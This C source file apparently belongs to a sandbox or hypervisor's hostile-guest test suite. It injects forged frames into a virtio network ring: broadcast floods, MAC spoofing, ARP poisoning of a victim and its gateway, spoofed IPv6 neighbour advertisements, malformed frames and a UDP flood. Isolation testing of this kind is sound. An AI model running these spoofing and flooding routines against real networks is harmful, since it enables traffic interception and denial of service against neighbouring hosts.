/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Frames that the libOS would never send, put into the network device's own ring: floods, foreign source addresses, ARP answers in
 * a neighbour's name, headers that ask for nonsense. A flood ends after FRAMES frames; then the program waits for its end.
 */
#include "hostile.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define FRAMES     200000u
#define FRAMES_GPA 0x78000ull /* nobody's: between the rings and the libOS */
#define FRAME      1514u
#define ETH        14u

static uint8_t victim_mac[6], gateway[4], victim[4];
static struct virtio_net_hdr *header;
static uint8_t *frame;

/* The neighbour, as the environment names it. */
static int know_victim(void)
{
	const char *mac = getenv("VICTIM_MAC"), *ip = getenv("VICTIM_IP"), *gw = getenv("GATEWAY");

	if (!mac || !ip || !gw || inet_pton(AF_INET, ip, victim) != 1 ||
		inet_pton(AF_INET, gw, gateway) != 1)
		return -1;
	for (int i = 0; i < 6; i++, mac += 3)
		victim_mac[i] = (uint8_t)strtoul(mac, NULL, 16);
	return 0;
}

/* One frame of this length; the ring is this program's from now on. Waits while it is full. */
static void send_frame(uint32_t bytes)
{
	static uint16_t idx, ready;
	const struct uig_device *net = find_device(UIG_DEV_NET);
	const struct uig_queue *q = &net->queue[1];
	struct virtq_desc *desc = ram(q->desc);
	struct virtq_avail *avail = ram(q->avail);
	struct virtq_used *used = ram(q->used);

	if (!ready) {
		ready = 1;
		idx = __atomic_load_n(&avail->idx, __ATOMIC_ACQUIRE);
	}
	while ((uint16_t)(idx - __atomic_load_n(&used->idx, __ATOMIC_ACQUIRE)) >= q->size)
		write_platform(UIG_REG_WAIT, 0);
	desc[idx % q->size] = (struct virtq_desc){.addr = FRAMES_GPA, .len = bytes + 12};
	avail->ring[idx % q->size] = (uint16_t)(idx % q->size);
	__atomic_store_n(&avail->idx, ++idx, __ATOMIC_RELEASE);
	if (idx % 64 == 0)
		write_device(net, VIRTIO_MMIO_QUEUE_NOTIFY, 1);
}

static void address(const uint8_t to[6], const uint8_t from[6], uint16_t type)
{
	header = ram(FRAMES_GPA);
	frame = (uint8_t *)(header + 1);
	memset(header, 0, sizeof(*header) + FRAME);
	memcpy(frame, to, 6);
	memcpy(frame + 6, from, 6);
	frame[12] = (uint8_t)(type >> 8);
	frame[13] = (uint8_t)type;
}

static int rest(void)
{
	write_device(find_device(UIG_DEV_NET), VIRTIO_MMIO_QUEUE_NOTIFY, 1);
	say("flood done\n");
	for (;;)
		write_platform(UIG_REG_WAIT, UIG_WAIT_FOREVER);
	return 0;
}

static const uint8_t everybody[6] = {255, 255, 255, 255, 255, 255};

static int broadcast(void)
{
	address(everybody, find_device(UIG_DEV_NET)->mac, 0x0800);
	for (unsigned i = 0; i < FRAMES; i++)
		send_frame(i % 2 ? FRAME : 60);
	return rest();
}

/* As if the neighbour had moved here. */
static int stolen_mac(void)
{
	if (know_victim() < 0)
		return 98;
	for (unsigned i = 0; i < FRAMES; i++) {
		address(everybody, victim_mac, 0x88b5);
		send_frame(60);
	}
	return rest();
}

static void arp(
	uint16_t operation, const uint8_t to[6], const uint8_t claims[4], const uint8_t asks[4])
{
	static const uint8_t kind[] = {0, 1, 8, 0, 6, 4};
	const uint8_t *mine = find_device(UIG_DEV_NET)->mac;

	address(to, mine, 0x0806);
	memcpy(frame + 14, kind, sizeof(kind));
	frame[21] = (uint8_t)operation;
	memcpy(frame + 22, mine, 6);
	memcpy(frame + 28, claims, 4);
	memcpy(frame + 32, to, 6);
	memcpy(frame + 38, asks, 4);
	send_frame(60);
}

/* "The neighbour is me", to the host; "the gateway is me", to the neighbour. */
static int stolen_ip(void)
{
	if (know_victim() < 0)
		return 98;
	for (unsigned i = 0; i < FRAMES / 4; i++) {
		arp(2, everybody, victim, gateway);
		arp(1, everybody, victim, victim);
		arp(2, victim_mac, gateway, victim);
		arp(1, everybody, gateway, victim);
	}
	return rest();
}

/* "The neighbour's IPv6 address is mine", to all and to it, and packets that it seems to have sent. */
static int stolen_ip6(void)
{
	static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1}, group[16] = {0xff, 2, [15] = 1};
	const uint8_t *mine = find_device(UIG_DEV_NET)->mac;
	const char *text = getenv("VICTIM_IP6");
	uint8_t ip[16];

	if (know_victim() < 0 || !text || inet_pton(AF_INET6, text, ip) != 1)
		return 98;
	for (unsigned i = 0; i < FRAMES; i++) {
		unsigned advert = i % 2;

		address(i % 4 < 2 ? all : victim_mac, mine, 0x86dd);
		uint8_t *p = frame + ETH;
		memset(p, 0, 72);
		p[0] = 0x60;
		p[5] = 32;
		p[6] = advert ? 58 : 17;
		p[7] = 255;
		memcpy(p + 8, ip, sizeof(ip));
		memcpy(p + 24, group, sizeof(group));
		if (advert) {
			p[40] = 136; /* neighbour advertisement that overrides */
			p[44] = 0x20;
			memcpy(p + 48, ip, sizeof(ip));
			p[64] = 2;
			p[65] = 1;
			memcpy(p + 66, mine, 6);
		}
		send_frame(ETH + 72);
	}
	return rest();
}

/* Every field of the header in front of the frame, and every length. */
static int rubbish_frames(void)
{
	for (unsigned i = 0; i < FRAMES; i++) {
		address(i % 2 ? everybody : victim_mac, find_device(UIG_DEV_NET)->mac,
			(uint16_t)rubbish());
		for (unsigned b = 0; b < 8; b++)
			((uint64_t *)(void *)header)[b] = rubbish();
		send_frame((uint32_t)(rubbish() % FRAME));
	}
	return rest();
}

/* Through the libOS, as any program can. */
static int datagrams(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
	int fd = socket(AF_INET, SOCK_DGRAM, 0), one = 1;
	static char data[1400];

	if (know_victim() < 0 || fd < 0)
		return 98;
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	for (unsigned i = 0; i < FRAMES; i++) {
		memcpy(&to.sin_addr, i % 2 ? victim : gateway, 4);
		to.sin_port = htons((uint16_t)(i ? i : 1));
		sendto(fd, data, sizeof(data), MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
	}
	say("flood done\n");
	for (;;)
		pause();
	return 0;
}

const struct attack wire_attacks[] = {
	{"broadcast", broadcast},
	{"stolen-mac", stolen_mac},
	{"stolen-ip", stolen_ip},
	{"stolen-ip6", stolen_ip6},
	{"rubbish-frames", rubbish_frames},
	{"datagrams", datagrams},
	{0},
};
